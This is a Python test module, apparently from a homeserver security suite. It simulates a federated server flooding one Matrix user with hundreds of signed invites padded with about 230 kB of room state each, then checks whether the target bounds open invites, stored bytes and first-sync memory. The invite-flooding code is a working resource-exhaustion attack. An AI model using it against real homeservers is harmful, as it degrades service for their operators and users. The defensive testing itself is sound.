"""A server invites a user it has nothing to do with into hundreds of rooms, with 230 kB of stripped state each."""

import hashlib
import time
from urllib.parse import quote

from room import KEY, canonical, event_id, redacted, unpadded

POINT, TENTH = 6, True
PROMISE = "open invites of one server and their bytes have a bound for each user; a first sync costs at most 64 MiB"
INVITES, STATE, SYNC_MIB_MAX, BYTES_MAX, OPEN_MAX = 200, 230_000, 64, 8 * 1024 * 1024, 100


def invite(stranger, server, user, n):
    room = f"!invite{n}:{stranger.name}"
    event = {
        "type": "m.room.member",
        "sender": f"@x:{stranger.name}",
        "state_key": user,
        "room_id": room,
        "content": {"membership": "invite"},
        "depth": 5,
        "prev_events": ["$" + "A" * 43],
        "auth_events": ["$" + "B" * 43],
        "origin_server_ts": int(time.time() * 1000),
    }
    event["hashes"] = {"sha256": unpadded(hashlib.sha256(canonical(event)).digest())}
    event["signatures"] = {stranger.name: {KEY: stranger.sign(redacted(event))}}
    sender = f"@x:{stranger.name}"
    state = [
        {"type": "m.room.create", "sender": sender, "state_key": "", "content": {"room_version": "11"}},
        {"type": "m.room.name", "sender": sender, "state_key": "", "content": {"name": "x", "pad": "x" * 60_000}},
    ]
    state += [
        {"type": f"m.pad{k}", "sender": sender, "state_key": "", "content": {"pad": "x" * 55_000}}
        for k in range((STATE - 60_000) // 55_000)
    ]
    target = f"/_matrix/federation/v2/invite/{quote(room)}/{quote(event_id(event))}"
    return stranger.call(server, "PUT", target, {"room_version": "11", "event": event, "invite_room_state": state})


def attack(server):
    bob, stranger = server.user("bob"), server.stranger()
    answers, end = [], time.monotonic() + 20
    for n in range(INVITES):
        answers.append(invite(stranger, server, bob.user, n))
        if time.monotonic() > end:
            break
    refused = next((f"{a.status} {a.json.get('errcode')}" for a in answers if not a.ok), "")
    server.forget_peak()
    before = server.rss()
    synced = bob.sync()
    return {
        "tried": len(answers),
        "accepted": sum(a.ok for a in answers),
        "refused": refused,
        "open_invites": server.rows("SELECT COUNT(*) FROM memberships WHERE membership = 2"),
        "stripped_bytes": server.rows("SELECT COALESCE(SUM(LENGTH(stripped)), 0) FROM memberships"),
        "sync_mib": len(synced.raw) / 1048576,
        "sync_status": synced.status,
        "rss_sync_mib": server.peak() - before,
    }


def held(figures):
    broken = [] if figures["sync_status"] == 200 else [f"the first sync answers {figures['sync_status']}"]
    if not figures["accepted"]:
        broken.append("not even one invite was accepted")
    if figures["open_invites"] > OPEN_MAX:
        broken.append(f"{figures['open_invites']} open invites of one server; at most {OPEN_MAX}")
    if figures["stripped_bytes"] > BYTES_MAX:
        broken.append(f"{figures['stripped_bytes']} bytes of stripped state; at most {BYTES_MAX}")
    if figures["rss_sync_mib"] > SYNC_MIB_MAX:
        broken.append(f"a first sync cost {figures['rss_sync_mib']} MiB; at most {SYNC_MIB_MAX}")
    return broken
